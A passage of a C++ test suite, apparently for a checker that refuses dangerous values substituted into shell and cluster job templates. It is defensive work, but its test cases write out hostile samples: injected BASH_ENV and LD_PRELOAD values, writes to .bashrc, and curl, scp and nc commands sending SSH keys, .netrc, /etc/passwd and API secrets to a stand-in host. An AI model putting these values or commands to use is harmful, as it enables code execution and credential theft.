}

TEST(ValueSinks, FirstCharacterRulesHoldAfterCutsAndDecoding) {
  expect_refusals({
      {"read RUN <<< \"%X%\"\necho x >> \"$RUN\"", "\\.bashrc", "run1"},
      {"read N <<< \"%X%\"\nrm -rf \"runs/$N\"", "\\.\\.", "run1"},
      {"TAG=\"%X%\"\nNAME=${TAG#run-}\necho x >> \"$NAME\"", "run-.bashrc", "run-abc"},
      {"R=\"%X%\"\nRUN=${R//[^A-Za-z0-9._-]/}\necho x >> \"$RUN\"", " .bashrc", "exp 1"},
      {"V=\"%X%\"\nN=${V:2}\ntouch \"$N\"", "x_.bashrc", "x_run1"},
      {"S=\"%X%\"\ncurl -s -d \"${S#*:}\" http://127.0.0.1/n", "INFO:@secret/clearml.conf", "INFO:all good"},
      {"read S <<< \"%X%\"\ncurl -d \"$S\" http://127.0.0.1/n", "\\@/etc/passwd", "all good"},
  });
}

// Fortieth review: a value reaching a runner's option through a variable, a
// function's parameter or export meets the rules it meets written there.
TEST(ValueSinks, RunnerOptionRulesHoldThroughVariables) {
  expect_refusals({
      {"LR=\"%X%\"\nsrun --export=ALL,LR=\"$LR\" bash step.sh", "0.1,BASH_ENV=x", "0.1"},
      {"run() { srun --export=ALL,LR=\"$1\" bash s.sh; }\nrun \"%X%\"", "0.1,BASH_ENV=x", "0.1"},
      {"export W=\"%X%\"\nsrun --chdir=\"$W\" python3 train.py", "/tmp/attacker", "src"},
      {"D=\"%X%\"\nsrun --container-mounts=\"$D:/data:ro\" python3 t.py", "/:/host,/scratch/d", "datasets/a"},
      {"N=\"%X%\"\nsrun --container-name=\"$N\" python3 t.py", "mine:exec", "mine"},
      {"E=\"%X%\"\nsrun --container-env=\"$E\" python3 t.py", "BASH_ENV", "NCCL_DEBUG"},
      {"G=\"%X%\"\nsrun --gres=\"gpu:$G\" python3 t.py", "1,shard:4", "2"},
      {"L=\"%X%\"\nsingularity exec --no-eval --env \"LR=$L\" img.sif python3 t.py", "0.1,LD_PRELOAD=/x.so", "0.1"},
      {"S=\"%X%\"\ndocker run -v \"$S:/data\" img python3 t.py", "/etc", "data"},
  });
  EXPECT_TRUE(refused(task("X=\"%X%\"\nsrun --export=ALL,$X=1 bash s.sh"), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("P=\"%X%\"\nsrun --export=ALL,LD_PRELOAD=\"$P\" bash s.sh"), "value-parsed-as-code"));
}

// xargs without a command runs echo: a filter, not a runner of its input.
TEST(ValueSinks, XargsWithoutACommandIsAFilter) {
  EXPECT_TRUE(rules(task("V=\"%X%\"\nSAFE=$(echo \"$V\" | xargs)\necho \"$SAFE\"")).empty());
  EXPECT_TRUE(placement(task("V=\"%X%\"\nSAFE=$(echo \"$V\" | xargs)\npython3 t.py $SAFE")).context.split_later);
  for (const char* form : {"echo \"%X%\" | xargs -n1 python3 t.py", "echo \"%X%\" | xargs -I{} sh -c 'echo {}'"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// Forty-first review: bash expands the word of >&WORD (and 1>&WORD) a second
// time when it is no descriptor's number; &>WORD and 2>&WORD it does not.
TEST(ValueSinks, CshStyleRedirectionExpandsItsWordAgain) {
  for (const char* form : {"exec >& \"logs/%X%.log\"", "srun python3 train.py >& logs/%X%.log",
                           "LOG=\"logs/%X%.log\"\npython3 t.py 1>&\"$LOG\"",
                           "run() { local log=$1; shift; \"$@\" >& \"$log\"; }\nrun \"logs/%X%\" python3 t.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"python3 t.py &> \"logs/%X%.log\"", "exec > \"logs/%X%.log\" 2>&1"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// enable chooses which builtin runs (or a program of PATH instead): a value
// there would choose the command, as in command position.
TEST(ValueSinks, EnableNamesACommand) {
  for (const char* form : {"enable -n \"%X%\"", "enable -f ./lib.so %X%", "enable %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
}

// The name of the file a command writes is not what it writes there.
TEST(ValueSinks, AWrittenFilesNameIsNotItsContent) {
  const auto p = placement(task("read RUN <<< \"%X%\"\nmkdir -p \"exp/$RUN\"\necho 'api {}' > \"exp/$RUN/clearml.conf\""));
  EXPECT_FALSE(refuses(p, "a,b"));
  EXPECT_TRUE(refuses(p, "\\.bashrc"));
}

// Forty-second review: a value choosing a shell option or a history line
// fc runs; container recipes and job scripts read from standard input; a
// variable name a value gives, in any case the template may convert it to.
TEST(ValueSinks, ShellOptionsHistoryRecipesAndNamesInAnyCase) {
  for (const char* form : {"shopt -s %X%", "set -o %X%", "set -%X%", "set -o history\nhistory -s \"run %X%\"\nfc -s",
                           "docker build -t x - <<EOF\nFROM ubuntu\nRUN echo %X%\nEOF",
                           "podman build -f - . <<EOF\nFROM ubuntu\nRUN echo %X%\nEOF",
                           "apptainer build x.sif /dev/stdin <<EOF\n%post\necho %X%\nEOF",
                           "kubectl apply -f - <<EOF\ncommand: [%X%]\nEOF", "qsub <<EOF\necho %X%\nEOF"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"set -- \"%X%\"", "set -e\necho \"%X%\"", "docker build -t img .\necho \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  expect_refusals({
      {"E=\"%X%\"\nsrun --container-env=\"${E^^}\" python3 t.py", "bash_env", "nccl_debug"},
      {"E=\"%X%\"\ndocker run -e \"${E@U}=1\" img python3 t.py", "ld_preload", "my_setting"},
      {"docker run -e \"%X%=1\" img python3 t.py", "PATH", "MY_SETTING"},
      {"E=\"%X%\"\nsingularity exec --no-eval --env \"${E^^}=1\" img.sif python3 t.py", "ld_preload", "lr"},
  });
}

// Forty-third review: names the template creates from a value come back
// through a glob that begins an argument (tar cf x *, RUNS=(*)), and the
// job's directives come back through Slurm's record of the job (squeue).
TEST(ValueSinks, NamesComeBackThroughGlobsAndSlurm) {
  expect_refusals({
      {"mkdir -p results\necho x > \"results/%X%.txt\"\ncd results && tar cf ../results.tar *",
       "--use-compress-program=x", "run1"},
      {"mkdir -p \"runs/%X%\"\ncd runs\npython3 x.py *", "--evil=1", "run1"},
      {"mkdir -p \"runs/%X%\"\ncd runs\nRUNS=(*)\npython3 x.py \"${RUNS[0]}\"", "--evil=1", "run1"},
  });
  EXPECT_TRUE(placement(task("#SBATCH --comment=%X%\npython3 x.py --job $(squeue -h -o %k -j $SLURM_JOB_ID)"))
                  .context.split_later);
  // The directory cd takes from a value comes back as $PWD, $(pwd), DIRSTACK.
  for (const char* form : {"cd \"runs/%X%\"\npython3 x.py $PWD", "cd \"runs/%X%\"\npython3 x.py $(pwd)",
                           "pushd \"runs/%X%\"\npython3 x.py ${DIRSTACK[0]}"})
    EXPECT_TRUE(placement(task(form)).context.split_later) << form;
  EXPECT_TRUE(refuses(placement(task("cd \"runs/%X%\"\npython3 x.py \"${PWD##*/}\"")), "--evil=1"));
  EXPECT_FALSE(placement(task("cd \"runs/%X%\"\npython3 x.py \"$PWD\"")).context.split_later);
  // A glob after the template's own text finds no name starting with '-'.
  EXPECT_FALSE(refuses(placement(task("mkdir -p \"runs/%X%\"\npython3 x.py runs/*")), "--evil=1"));
}

// Forty-fourth review: '+' starts an option too (bash +c runs its next
// argument as code, set +o, vim +COMMAND); only a number means the same to
// every program, and bash's echo prints it.
TEST(ValueSinks, APlusStartsAnOptionWhereAnArgumentBegins) {
  expect_refusals({
      {"bash \"%X%\" \"run.sh\"", "+c", "setup.sh"},
      {"S=\"%X%\"\nsh \"$S\" x", "+c", "s.sh"},
      {"run() { bash \"$1\" \"$2\"; }\nrun \"%X%\" x", "+c", "s.sh"},
      {"srun --ntasks=1 sh \"%X%\" x", "+c", "s.sh"},
      {"tail -n 5 \"%X%\"", "+c", "+5"},
      {"V=\"%X%\"\npython3 x.py \"${V#run-}\"", "run-+c", "run_abc"},
      {"V=\"%X%\"\npython3 x.py \"${V//_/+}\"", "_c", "abc"},
  });
  EXPECT_FALSE(refuses(placement(task("echo \"%X%\"")), "+c"));
  EXPECT_FALSE(refuses(placement(task("python3 x.py --note=\"%X%\"")), "+c"));
}

// Forty-fourth review: the file of options the template's '@' or an
// options-file option names (gcc -wrapper, nvcc -ccbin run programs), the
// files curl and wget send, and wget -e (a wgetrc command: use_askpass=PROG).
TEST(ValueSinks, FilesOfOptionsAndFilesSentNameTheJobsFiles) {
  expect_refusals({
      {"gcc -O2 @\"%X%\" -o helper helper.c", "/tmp/evil.rsp", "build.rsp"},
      {"F=\"%X%\"\njavac @$F Main.java", "/tmp/evil.rsp", "javac.opts"},
      {"python3 train.py '@'%X%", "~/args.txt", "args.txt"},
      {"nvcc --options-file \"%X%\" -c kernel.cu", "/tmp/evil.opts", "nvcc.opts"},
      {"nvcc -optf %X% -c kernel.cu", "../evil.opts", "nvcc.opts"},
      {"clang --config=\"%X%\" x.c", "/tmp/evil.cfg", "clang.cfg"},
      {"curl -s -F \"log=@%X%\" http://127.0.0.1/u", "/home/glue/clearml.conf", "metrics.json"},
      {"curl -F \"log=<%X%\" http://127.0.0.1/u", "/home/glue/clearml.conf", "metrics.json"},
      {"curl -d @\"%X%\" http://127.0.0.1/u", "/home/glue/clearml.conf", "metrics.json"},
      {"curl -d@\"%X%\" http://127.0.0.1/u", "/home/glue/clearml.conf", "metrics.json"},
      {"curl --json @%X% http://127.0.0.1/u", "~/.netrc", "body.json"},
      {"curl --data-urlencode \"msg@%X%\" http://127.0.0.1/u", "/etc/shadow", "msg.txt"},
      {"A=\"%X%\"\ncurl -H @\"$A\" http://127.0.0.1/u", "/home/glue/clearml.conf", "headers.txt"},
      {"wget --post-file=\"%X%\" http://127.0.0.1/u", "/home/glue/clearml.conf", "metrics.json"},
      {"wget --body-file \"%X%\" --method=PUT http://127.0.0.1/u", "/home/glue/clearml.conf", "metrics.json"},
  });
  // Text of the template's before the '@' makes it no response file.
  EXPECT_FALSE(refuses(placement(task("python3 x.py \"user@%X%\"")), "/x"));
  EXPECT_FALSE(refuses(placement(task("curl -F \"note=%X%\" http://127.0.0.1/u")), "/tmp/x"));
  for (const char* form : {"wget -q -e \"%X%\" http://127.0.0.1/d.tar", "wget -e\"%X%\" http://127.0.0.1/d.tar",
                           "wget --execute=%X% http://127.0.0.1/d.tar"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
}

// Forty-fourth review: a file the template sources (or code eval takes
// from a program) may define functions the compiler never reads, which may
// run their arguments: a command it knows as no program, builtin or
// function of the template's may be one of them.
TEST(ValueSinks, ACommandMayBeAFunctionOfCodeTheCompilerDoesNotRead) {
  for (const char* form : {"source ./common.sh\nrun_step \"%X%\"", "run_step \"%X%\"\n. /opt/site/lib.sh",
                           "eval \"$(conda shell.bash hook)\"\nsetup_env --name \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"run_step \"%X%\"", "source ./common.sh\ncommand run_step \"%X%\"",
                           "source ./common.sh\n/opt/bin/run_step \"%X%\"",
                           "source venv/bin/activate\npython3 train.py --note \"%X%\"",
                           "source ./common.sh\necho \"%X%\" | tee -a log.txt",
                           "source ./common.sh\nrun_step() { printf '%s\\n' \"$1\"; }\nrun_step \"%X%\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// Forty-fifth review: what a compiler builds from (headers, include and
// library directories, its operands), files of commands and class paths in
// every spelling of their options, shared objects programs load, and files
// that leave the job (a copy to another host, a mail's attachment).
TEST(ValueSinks, BuildInputsLoadedObjectsAndFilesThatLeaveTheJob) {
  expect_refusals({
      {"gcc -include \"%X%\" bench.c && ./a.out", "/tmp/evil.h", "bench.h"},
      {"gcc -I\"%X%\" -c bench.c", "/tmp/evil", "include"},
      {"nvcc -I \"%X%\" -c k.cu", "/tmp/evil", "include"},
      {"gcc -O2 -o bench \"%X%\"", "/tmp/evil.c", "bench.c"},
      {"S=\"%X%\"\ncc \"$S\" -lm", "../evil.c", "bench.c"},
      {"ld -T \"%X%\" -o x x.o", "/tmp/evil.ld", "x.ld"},
      {"javac -processorpath \"%X%\" Main.java", "/tmp/evil", "procs"},
      {"javac --class-path=%X% Main.java", "/tmp/evil", "lib"},
      {"openssl dgst -engine \"%X%\" -sha256 f", "/tmp/evil.so", "engine.so"},
      {"ssh-keygen -D \"%X%\"", "/tmp/evil.so", "p11.so"},
      {"scp \"%X%\" backup:/results/", "/etc/passwd", "results.tar"},
      {"rsync -a \"%X%\" backup:/results/", "../../etc", "results"},
      {"aws s3 cp \"%X%\" s3://bucket/results/", "/home/glue/clearml.conf", "results.tar"},
      {"mail -s done -a \"%X%\" ops@example.com < /dev/null", "/home/glue/clearml.conf", "report.txt"},
  });
  for (const char* form : {"xargs --arg-file=\"%X%\" python3", "xargs -a\"%X%\" python3",
                           "gdb -batch --command=\"%X%\" ./probe", "gdb -batch -x\"%X%\" ./probe",
                           "gdb -batch -ex \"%X%\" ./probe", "lldb --one-line \"%X%\" ./probe"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"cargo build --config \"%X%\"", "go build -toolexec \"%X%\" ./...",
                           "pytest -o \"%X%\" tests", "aria2c --on-download-complete=\"%X%\" http://127.0.0.1/d"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  expect_refusals({
      {"pylint --rcfile=\"%X%\" src", "/tmp/evil.rc", "pylintrc"},
      {"pip --config-file \"%X%\" install -r requirements.txt", "/tmp/pip.conf", "pip.conf"},
      {"gpg --homedir \"%X%\" --verify x.sig", "/tmp/evil", "gnupg"},
      {"python3 train.py --flagfile=\"%X%\"", "/tmp/flags", "flags.txt"},
      {"F=\"%X%\"\n./trainer --flagfile \"$F\"", "/tmp/flags", "flags.txt"},
  });
  // A cluster of short options ends at the first that takes a value.
  for (const char* form : {"wget -qe \"%X%\" http://127.0.0.1/d.tar", "tar -xI \"%X%\" -f a.tar",
                           "rsync -ae \"%X%\" a host:b"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  expect_refusals({
      {"gcc -cI\"%X%\" x.c", "/tmp/evil", "include"},
      {"pytest -qc \"%X%\" tests", "/tmp/evil.ini", "pytest.ini"},
  });
  // A local copy's source is only read; gdb --args' words are the program's.
  EXPECT_FALSE(refuses(placement(task("cp \"%X%\" results/")), "/datasets/x.tar"));
  EXPECT_TRUE(rules(task("gdb -batch --args ./probe -x \"%X%\"")).empty());
}

// Forty-sixth review: a java agent's options are a comma list (jdwp's
// launch=CMD runs a command); the agent, -XX:OnError and
// -XX:OnOutOfMemoryError's command lines are code.
TEST(ValueSinks, JavaAgentOptionsAndErrorHooks) {
  expect_refusals({
      {"java -agentlib:jdwp=transport=dt_socket,server=y,address=%X% -jar t.jar", "5005,launch=touch x", "5005"},
      {"P=\"%X%\"\nsrun java -Xrunjdwp:transport=dt_socket,address=$P -jar t.jar", "5005,launch=x", "5005"},
      {"java -javaagent:agent.jar=%X% -jar t.jar", "a,b", "verbose"},
  });
  for (const char* form : {"java -agentlib:%X% -jar t.jar", "java -XX:OnError=\"%X%\" -jar t.jar",
                           "java -XX:OnOutOfMemoryError=\"kill %X%\" -jar t.jar"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(rules(task("java -Xmx4g -jar t.jar \"%X%\"")).empty());
  // The jar is code, the main class chooses the program; what follows is the program's.
  EXPECT_TRUE(refuses(placement(task("java -jar \"%X%\"")), "/tmp/evil.jar"));
  EXPECT_TRUE(refused(task("java -cp lib \"%X%\""), "placeholder-command"));
  for (const char* form : {"java -jar t.jar \"%X%\"", "java -cp lib Main \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "/data/in.csv")) << form;
}

// Forty-sixth review, programs of other languages: dvc -S puts the
// parameter's text in a stage's command, nextflow loads the plugins it is
// named, R CMD BATCH runs a file, spark-submit's --class chooses the program,
// --master the host the application goes to, --properties-file its settings.
TEST(ValueSinks, DataScienceToolsOfTheFortySixthReview) {
  for (const char* form : {"dvc exp run -S lr=%X%", "nextflow run main.nf -plugins \"%X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refused(task("spark-submit --class \"%X%\" app.jar"), "placeholder-command"));
  expect_refusals({
      {"R CMD BATCH \"%X%\"", "/tmp/evil.R", "job.R"},
      {"spark-submit --properties-file \"%X%\" app.py", "/tmp/evil.conf", "spark.conf"},
      {"spark-submit --master \"%X%\" app.py", "spark://evil:7077", "yarn"},
  });
}

// A debugger runs any code its client sends and a server serves the job:
// where one listens, a value is a port or the loopback (46th and 47th
// reviews: node --inspect, debugpy, jdwp, gdbserver, jupyter, tensorboard).
TEST(ValueSinks, DebuggersListenOnlyOnTheNode) {
  expect_refusals({
      {"node --inspect=%X% app.js", "0.0.0.0:9229", "9229"},
      {"python3 -m debugpy --listen \"%X%\" train.py", "0.0.0.0:5678", "localhost:5678"},
      {"java -agentlib:jdwp=transport=dt_socket,server=y,address=%X% -jar t.jar", "*:5005", "127.0.0.1:5005"},
      {"P=\"%X%\"\nnode --inspect=\"$P\" app.js", "0.0.0.0:9229", "9229"},
      // Servers that serve the job (47th review).
      {"gdbserver %X% ./probe", "0.0.0.0:2345", "localhost:2345"},
      {"jupyter lab --ip=%X% --no-browser", "0.0.0.0", "127.0.0.1"},
      {"tensorboard --logdir runs --host \"%X%\"", "0.0.0.0", "localhost"},
      {"python3 -m http.server --bind %X% 8000", "0.0.0.0", "127.0.0.1"},
  });
}

// Hydra and OmegaConf resolve ${oc.env:NAME} in an override's value, and
// hydra.run.dir names where they write (46th review).
TEST(ValueSinks, HydraOverridesHoldNoInterpolation) {
  expect_refusals({
      {"python3 train.py lr=%X%", "${oc.env:CLEARML_API_SECRET_KEY}", "0.1"},
      {"torchrun --nproc-per-node=4 train.py \"+model.name=%X%\"", "${oc.env:HOME}", "resnet"},
      {"python3 train.py hydra.run.dir=%X%", "/home/u/.ssh", "outputs/run1"},
      {"python3 train.py model=%X%", "{_target_:os.system,command:id}", "resnet50"},
      {"python3 train.py model.name=resnet_%X%", "${oc.env:HOME}", "50"},
  });
  EXPECT_FALSE(refuses(placement(task("python3 train.py --note=%X%")), "${x}"));
}

// Forty-eighth review: runners under their other names (x86_64, i386,
// fakeroot-tcp, valgrind.bin), memusage and profilers that run a program,
// any program the compiler does not know followed by a shell, interpreter
// or runner; kubectl and helm's kubeconfig (its exec plugin runs), helm
// --post-renderer, systemd-run -p, files a configmap takes, aws options
// after the subcommand.
TEST(ValueSinks, RunnersByOtherNamesAndClusterClients) {
  for (const char* form : {"x86_64 -R %X%", "i386 %X%", "memusage python3 -m %X%", "fakeroot-tcp %X%",
                           "nvprof %X%", "setarch x86_64 -R %X%"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  expect_refusals({
      {"x86_64 -R python3 \"%X%\"", "/tmp/evil.py", "train.py"},
      {"myprofiler --sample python3 \"%X%\"", "/tmp/evil.py", "train.py"},
      {"kubectl --kubeconfig \"%X%\" get pods", "/tmp/kc", "kubeconfig"},
      {"kubectl create configmap cfg --from-file=\"%X%\"", "/home/glue/.ssh/id_rsa", "config.yaml"},
      {"aws s3 ls --endpoint-url=\"%X%\"", "https://evil", "minio"},
  });
  for (const char* form : {"helm install x ./chart --post-renderer \"%X%\"", "systemd-run -p \"Environment=LR=%X%\" t"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // sqlite3's database is a file of the job's; its SQL is code.
  EXPECT_TRUE(rules(task("sqlite3 \"%X%\" 'select 1;'")).empty());
  EXPECT_TRUE(refuses(placement(task("sqlite3 \"%X%\" 'select 1;'")), "/home/glue/runs.db"));
  EXPECT_TRUE(refused(task("sqlite3 runs.db \"select '%X%';\""), "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("sqlite3 -cmd \"%X%\" runs.db"), "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("sqlite3 -batch -readonly \"%X%\" 'select 1;'")).empty());
  // setarch's flags take no value.
  EXPECT_TRUE(rules(task("setarch x86_64 -R python3 train.py --note \"%X%\"")).empty());
}

// Forty-ninth review: every spelling of reading the environment in code
// that runs commands; more database clients; commands run in a pod, a
// container or on another machine.
TEST(ValueSinks, EnvironmentSpellingsClientsAndRemoteCommands) {
  for (const char* form :
       {"export RUN_NAME=\"%X%\"\npython3 -c 'import os; os.system(os.path.expandvars(\"echo $RUN_NAME\"))'",
        "export RUN_NAME=\"%X%\"\ntclsh <<'EOF'\nexec sh -c \"echo $env(RUN_NAME)\"\nEOF",
        "export RUN_NAME=\"%X%\"\nnode -e 'const { env } = process; require(\"child_process\").execSync(\"echo \" + env.RUN_NAME)'",
        "mariadb -e \"INSERT INTO runs VALUES ('%X%')\"", "cqlsh -e \"select '%X%'\"",
        "kubectl run probe --image=busybox --restart=Never -- sh -c \"echo %X%\"",
        "lxc exec box -- sh -c \"echo %X%\"", "gcloud compute ssh vm --command \"echo %X%\"",
        "ray exec cluster.yaml \"echo %X%\"", "salt '*' cmd.run \"echo %X%\""})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  expect_refusals({{"kubectl exec pod -- python3 \"%X%\"", "/tmp/evil.py", "train.py"}});
}

// A word that is only a value, where bash reads a variable's name (unset,
// test -v), holds one plain name: a subscript there would be
// evaluated, but a name is safe to render (a false refusal of the 44th
// review).
TEST(ValueSinks, AVariableNameFromAValueIsOnePlainName) {
  for (const char* form : {"unset \"%X%\"", "V=\"%X%\"\nunset \"$V\"", "test -v \"%X%\" && echo set"}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
    const auto p = placement(task(form));
    EXPECT_FALSE(refuses(p, "OMP_NUM_THREADS")) << form;
    EXPECT_TRUE(refuses(p, "a[$(touch x)]")) << form;
    EXPECT_TRUE(refuses(p, "1x")) << form;
  }
  // Inside a longer word the value may be a subscript: ids only.
  EXPECT_TRUE(refused(task("unset \"runs[%X%]\""), "value-parsed-as-code"));
}

// Forty-fourth review: a value names one ref where git push, fetch or pull
// take refspecs (:production deletes the remote branch, +main forces).
TEST(ValueSinks, AValueNamesOneRefGitUpdates) {
  expect_refusals({
      {"git push -q origin \"%X%\"", ":production", "results"},
      {"git push origin \"results-%X%\"", "a:production", "a"},
      {"B=\"%X%\"\ngit push -o ci.skip origin \"$B\"", "HEAD:refs/heads/main", "results"},
      {"git fetch origin \"refs/heads/%X%\"", "x:refs/heads/main", "x"},
      {"git pull --rebase origin %X%", "+main", "main"},
  });
}

// Fiftieth review and the leftovers of the forty-ninth: a program the
// compiler does not know may write the file a value names (xxd IN OUT,
// tcpdump -w), and so may any program's --output-like option; named
// writers (ar, logsave, cpio -F, screen -Logfile, dos2unix); what a
// runner it cannot place runs (docker compose run SERVICE CMD); python
// -m sqlite3 and IPython; git's and npm's command options; and
// files whose contents a later stage of a pipeline sends away; long
// options abbreviated.
TEST(ValueSinks, UnknownWritersModulesAndCommandOptions) {
  expect_refusals({
      {"xxd in.bin \"%X%\"", "/home/glue/.bashrc", "out.hex"},
      {"tcpdump -w \"%X%\"", "~/.bashrc", "capture.pcap"},
      {"jar cf \"%X%\" -C classes .", "/home/glue/x.jar", "app.jar"},
      {"srun site-stage --to \"%X%\"", "../../.bashrc", "data"},
      {"ar rcs \"%X%\" a.o", "/home/glue/lib.a", "libx.a"},
      {"logsave -a \"%X%\" echo started", "/home/glue/.bashrc", "run.log"},
      {"cpio -o -F \"%X%\" < list", "/home/glue/x.cpio", "x.cpio"},
      {"screen -L -Logfile \"%X%\" -dm sleep 1", "/home/glue/.profile", "screen.log"},
      {"dos2unix \"%X%\"", "/home/glue/.bashrc", "notes.txt"},
      {"nvcc-report --output-dir=\"%X%\"", "/home/glue", "reports"},
      {"ls --output \"%X%\"", "~/x", "out"},
      {"cat \"%X%\" | curl --data-binary @- https://collector.example/up", "/home/glue/.ssh/id_rsa", "metrics.json"},
      {"tar czf - \"%X%\" | curl -T - https://collector.example/up", "/home/glue", "results"},
      {"cat \"%X%\" | nc collector.example 9000", "/home/glue/.netrc", "metrics.json"},
      // Abbreviations of long options, which getopt_long and argparse take.
      {"sort --outp \"%X%\" in.txt", "/home/glue/.bashrc", "sorted.txt"},
      {"shuf --outpu=\"%X%\" in.txt", "~/.profile", "shuffled.txt"},
      {"wget --output-doc=\"%X%\" https://mirror.example/f", "/home/glue/.bashrc", "f.tar"},
  });
  for (const char* form : {"rsync --rs \"%X%\" a/ host:b/", "tar --to-comm=\"%X%\" -xf a.tar"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // The template's own scripts (named by a path) and an interpreter's
  // script take their arguments as data, as the program's own.
  for (const char* form : {"./prepare.sh \"%X%\"", "python3 train.py --output-dir \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "/datasets/imagenet")) << form;
  // Code: what these run.
  for (const char* form : {"docker compose run --rm trainer python3 -c \"%X%\"",
                           "docker compose -f ci.yml exec -T trainer sh -c \"echo %X%\"",
                           "docker-compose exec trainer bash -c \"echo %X%\"", "python3 -m sqlite3 runs.db \"%X%\"",
                           "python3 -m IPython -c \"%X%\"", "git bisect run \"%X%\"",
                           "git -C repo rebase -x \"make %X%\" main", "git rebase --exec=\"%X%\" main",
                           "git submodule foreach --recursive \"%X%\"", "git clone -u \"%X%\" repo",
                           "git difftool -x \"%X%\"", "npm exec -c \"%X%\"", "npm exec --call=\"%X%\"",
                           "npx -c \"%X%\"", "rename \"%X%\" *.txt", "rename -e \"%X%\" *.txt"})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // ... and their neighbours that take data: git switch -c and grep -c
  // (a branch, a pattern), npm install's package (chosen by the task as
  // pip's are).
  for (const char* form : {"git switch -c \"%X%\"", "git grep -c \"%X%\"", "git commit -m \"%X%\"",
                           "npm install \"%X%\"", "npx prettier --write \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "results-2026")) << form;
  // A program that runs a command (npx, yarn exec) cannot take it from a
  // value.
  for (const char* form : {"npx \"%X%\"", "yarn exec \"%X%\"", "pnpm dlx \"%X%\""})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
}

// Fifty-first review: a known program is read for what it does in every
// spelling of its options: long options cut short (getopt_long, argparse
// and git take any unambiguous prefix), a value-taking letter late in a
// cluster of flags, and options the compiler names by what they hold
// (--prefix, --pack-destination, --cache-dir); files of settings whose
// lines become options or commands are code.
TEST(ValueSinks, KnownProgramsInEverySpellingOfTheirOptions) {
  expect_refusals({
      {"sort --o=\"%X%\" results.txt", "/home/glue/.bashrc", "sorted.txt"},
      {"cp --target-dir \"%X%\" results.txt", "/home/glue", "out"},
      {"install --targ=\"%X%\" results.txt", "/home/glue/bin", "out"},
      {"tar --dir=\"%X%\" -xf a.tar", "/home/glue", "unpacked"},
      {"env --chd=\"%X%\" ls", "/tmp/x", "work"},
      {"sort -uo \"%X%\" results.txt", "/home/glue/.bashrc", "sorted.txt"},
      {"cp -rt \"%X%\" outputs", "/home/glue", "archive"},
      {"install -Dt \"%X%\" metrics.txt", "/home/glue/bin", "out"},
      {"ln -st \"%X%\" \"$PWD/metrics.txt\"", "/home/glue", "links"},
      {"wget -qO\"%X%\" https://mirror.example/model.py", "/home/glue/.bashrc", "model.pt"},
      {"cmake --install build --prefix \"%X%\"", "/home/glue", "stage"},
      {"git checkout-index -a --prefix=\"%X%/\"", "/home/glue", "export"},
      {"csplit --prefix=\"%X%\" metrics.txt 2", "/home/glue/part_", "part_"},
      {"npm pack --pack-destination \"%X%\"", "/home/glue", "dist"},
      {"python3 -m ensurepip --root \"%X%\"", "/home/glue", "env"},
      {"pip --cache-dir \"%X%\" install torch", "/home/glue", "cache"},
      {"sort -T \"%X%\" in.txt", "/home/glue", "tmp"},
      {"git clone --templ=\"%X%\" https://h.example/r.git", "/tmp/hooks", "templates"},
  });
  for (const char* form : {"tar --checkpoint-a=exec=\"%X%\" -cf a.tar d", "tar --to-c=\"%X%\" -xf a.tar",
                           "tar --use-c=\"%X%\" -cf a.tar d", "tar --rsh-command=\"%X%\" -cf host:a.tar d",
                           "split --filt=\"%X%\" in.txt", "script -q --comm \"%X%\" session.log",
                           "gdb --batch --eval-c=\"%X%\" --args ./train.bin", "wget --exe=\"%X%\" https://m.example/",
                           "env --split-s=\"%X%\"", "git rebase --exe \"%X%\" main",
                           "git grep --open-files=\"%X%\" a",
                           "man -P \"%X%\" ls", "echo \"node-options=--max-old-space-size=%X%\" > .npmrc",
                           "echo \"%X%\" > ~/.gdbinit", "echo \"addopts = -n %X%\" > pytest.ini",
                           "echo \"org.gradle.jvmargs=-Xmx%X%\" > gradle.properties", "export PGOPTIONS=\"-c %X%\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  // What stays data: an interpreter's script's own options, a compiler's
  // -f options (no clusters there), a whole option that a longer one
  // extends by a part (curl --data, tar --file).
  EXPECT_FALSE(refuses(placement(task("rsync -rt \"%X%\" ./data/")), "/datasets/imagenet"))
      << "rsync's -t keeps times: the source is only read";
  for (const char* form : {"python3 train.py --outp \"%X%\"", "gcc -fno-omit-frame-pointer -o app app.c \"%X%\"",
                           "curl --data \"%X%\" https://collector.example/", "tar --file \"%X%\" -x"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
}

// Fifty-second review: where Slurm takes a file of directives or a
// bundle, and a quoted option value with blanks; and a number parsed
// again as code holds no exponent (sed -n "1e0p" runs a command).
TEST(ValueSinks, SlurmFilesBundlesQuotedListsAndNumbersInCode) {
  for (const char* form : {"#SBATCH --bbf=%X%", "sbatch --bbf=\"%X%\" job.sh", "srun --bbf \"%X%\" true",
                           "B=\"%X%\"\nsalloc --bbf=\"$B\" true"})
